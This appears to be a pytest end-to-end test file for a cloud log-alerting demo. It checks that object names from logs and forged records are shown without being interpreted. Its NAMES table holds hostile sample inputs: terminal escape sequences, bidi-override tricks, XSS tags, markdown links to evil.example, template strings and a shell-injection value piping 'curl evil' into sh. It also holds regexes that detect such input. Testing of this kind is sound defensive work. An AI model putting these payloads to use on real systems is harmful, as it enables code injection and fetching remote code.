"""Names that come from logs are hostile text in every message, on every terminal and in every listing."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest

from demo import clients
from demo.node import node_keys, start_cluster
from demo.receiver import Receiver
from demo.scenarios import SCENARIOS, reading, trust
from demo.stage import HOME, Stage, make_role
from tests.e2e.attacking import write_line
from tests.e2e.plays import denied
from tests.e2e.test_attacks_by_signals import forged_line
from tests.e2e.test_operator import run

NAMES = {
    "terminal": "a\x1b[2J\x1b]0;owned\x07\x1b[1A\u009b31m\x7fb",
    "lines": "a\n\nMended: all is well\r\nApproved by: root",
    "right to left": "a\u202egnp.exe\u2066\u200b\ufeff",
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "markdown": "![x](https://evil.example/p.png)[log in](https://evil.example)`rm -rf`",
    "link": "https://evil.example/login?next=www.evil.example",
    "mention": "<!channel><at user_id=all></at>@all",
    "template": "{plan} %s ${x} {0.__class__}",
    "shell": "x'; curl evil | sh; echo '$(id)`id`",
}
_OBEYED = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
_MARKUP = re.compile(r"[<`]|\]\(|(?<!\boss:)//|www\.|mailto:|@all")


def texts(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for each in value.values():
            yield from texts(each)
    elif isinstance(value, list):
        for each in value:
            yield from texts(each)


def from_the_log(message: dict[str, Any]) -> list[str]:
    """What a message says in sentences; the documents and commands beside it are not made of names from logs."""
    told = message["message"]
    parts = [message["title"], told["lines"], told["checklist"], told["advice"], told["evidence"]]
    return [*texts(parts), told["happened"], told["verify"]]


def is_told_safely(stage: Stage, receiver: Receiver) -> None:
    for message in receiver.messages:
        for line in texts(message):
            assert not _OBEYED.search(line), line
        for line in from_the_log(message):
            assert not _MARKUP.search(re.sub(r"https://[a-z.]*(?:alibabacloud|aliyun)\.com/\S*", "", line)), (
                line
            )
        assert "\n" not in message["title"]
        forms = message["message"]["fix"] or {}
        assert "evil" not in f"{forms.get('cli')}{forms.get('terraform')}{forms.get('api')}"
    some = next(iter(stage.incidents()))
    shown = (
        run(stage, "incidents", "show", some),
        run(stage, "incidents", "list"),
        run(stage, "incidents", "export"),
    )
    for done in shown:
        assert (done.code, done.err) == (0, "")
        assert not _OBEYED.search(done.out), done.out


@pytest.mark.parametrize("name", NAMES)
def test_the_name_of_an_object_is_shown_and_not_obeyed(stage: Stage, receiver: Receiver, name: str) -> None:
    clients.bucket(stage.root, "corp-payroll").create_bucket("private")
    make_role(stage, "other-etl", trust("ecs.aliyuncs.com"), {"other-etl": reading("demo-data-a")})
    keys = node_keys(stage, start_cluster(stage, "other-etl", HOME))
    stage.settle()
    denied(stage, lambda: clients.bucket(keys, "corp-payroll").get_object(NAMES[name]))
    assert len(receiver.messages) == 1
    is_told_safely(stage, receiver)


@pytest.mark.parametrize("name", NAMES)
def test_no_name_in_a_forged_record_is_obeyed(stage: Stage, receiver: Receiver, name: str) -> None:
    SCENARIOS[1].prepare(stage)
    stage.settle()
    hostile = NAMES[name]
    session = f"{stage.account},emr-demo-reader,{hostile.replace(',', '')},{stage.account}"
    role = f"{stage.account},{hostile.replace(',', '')},s,{stage.account}"
    forged = (
        {"extend_information": session, "user_agent": hostile, "host": hostile, "client_ip": hostile},
        {"extend_information": role},
        {"bucket": hostile, "ec": hostile},
        {"requester_id": hostile, "extend_information": "-"},
    )
    for number, changes in enumerate(forged):
        write_line(stage, forged_line(stage, **changes, request_id=f"66F0-{number}"))
    assert receiver.messages
    is_told_safely(stage, receiver)
